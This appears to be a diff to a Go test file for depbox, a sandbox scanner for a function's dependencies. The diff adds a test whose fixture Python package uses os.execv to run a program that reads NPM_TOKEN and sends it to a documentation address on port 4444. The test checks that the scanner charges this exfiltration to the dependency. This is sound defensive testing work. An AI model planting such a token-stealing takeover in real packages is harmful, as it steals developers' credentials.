@@ -1,12 +1,13 @@
 package scan_test
 
 import (
+	"context"
 	"fmt"
-	"os"
 	"slices"
 	"strings"
 	"testing"
 
+	"github.com/depbox/depbox/internal/scan"
 	"github.com/depbox/depbox/internal/verdict"
 	"github.com/depbox/depbox/profile"
 )
@@ -64,9 +65,6 @@ func TestPythonChildAttribution(t *testing.T) {
 			"    return 1\n",
 	})
 	p := run(t, invokeOptions(t, dir))
-	if d := os.Getenv("PYCHILD_KEEP"); d != "" {
-		_ = os.CopyFS(d, os.DirFS(dir))
-	}
 
 	type sent struct {
 		canary, host, dest string
@@ -159,6 +157,50 @@ func TestNodeEvalChildAttribution(t *testing.T) {
 		t.Errorf("the function is charged with its dependency's child: %+v", app)
 	}
 	if u := app.Unattributed; u != nil && (len(u.Network) > 0 || len(u.DNS) > 0 || len(u.Env) > 0 || len(u.Exfiltration) > 0) {
+		t.Errorf("the function's invoke phase has unattributed behaviour: %+v", *u)
+	}
+}
+
+// TestPythonExecInPlaceAttribution: a distribution that replaces the
+// function's own process with `python -c` (os.execv, no fork) ends the
+// invoke phase (the profile is incomplete), and what the new program does
+// — its records name nobody — is the distribution's, by the exec record
+// its program sent before it: not the function's, not unattributed. Real
+// sandbox; the program contacts only a documentation address.
+func TestPythonExecInPlaceAttribution(t *testing.T) {
+	requirePython(t)
+	const dist = "kex-1.0.dist-info"
+	code := childCode("NPM_TOKEN", "exec.kex.invalid", "198.51.100.20", 4444)
+	dir := writeTree(t, map[string]string{
+		"kex/__init__.py": "# TEST FIXTURE: runs only inside depbox's sandbox.\n" +
+			"import os, sys\n\ndef takeover():\n" +
+			"    os.execv(sys.executable, [sys.executable, '-c', " + fmt.Sprintf("%q", code) + "])\n",
+		dist + "/METADATA":   "Metadata-Version: 2.1\nName: kex\nVersion: 1.0\n",
+		dist + "/RECORD":     "kex/__init__.py,,\n" + dist + "/METADATA,,\n" + dist + "/RECORD,,\n",
+		"lambda_function.py": "import kex\n\ndef lambda_handler(event, context):\n    kex.takeover()\n",
+	})
+	p, _, err := scan.Scan(context.Background(), invokeOptions(t, dir))
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	if !p.Incomplete {
+		t.Errorf("the invoke phase ended by an exec is not incomplete: %+v", p.App.Phases[profile.PhaseInvoke].Outcome)
+	}
+	b := phaseOf(t, p, dist, profile.PhaseInvoke)
+	if !slices.Contains(b.Env, "NPM_TOKEN") {
+		t.Errorf("kex: the new program's read of NPM_TOKEN is not among %v", b.Env)
+	}
+	if !slices.ContainsFunc(b.DNS, func(q profile.DNSQuery) bool { return q.Name == "exec.kex.invalid" }) {
+		t.Errorf("kex: the new program's lookup is not among %+v", b.DNS)
+	}
+	if !hasExfil(b, "NPM_TOKEN", "network", "198.51.100.20:4444", "raw") {
+		t.Errorf("kex: NPM_TOKEN sent to 198.51.100.20:4444 is not its exfiltration: %+v", b.Exfiltration)
+	}
+	app := p.App.Phases[profile.PhaseInvoke]
+	if len(app.Exfiltration) > 0 || slices.Contains(app.Env, "NPM_TOKEN") {
+		t.Errorf("the function is charged with what its dependency's program did: %+v", app)
+	}
+	if u := app.Unattributed; u != nil && (len(u.DNS) > 0 || len(u.Env) > 0 || len(u.Exfiltration) > 0) {
 		t.Errorf("the function's invoke phase has unattributed behaviour: %+v", *u)
 	}
 }
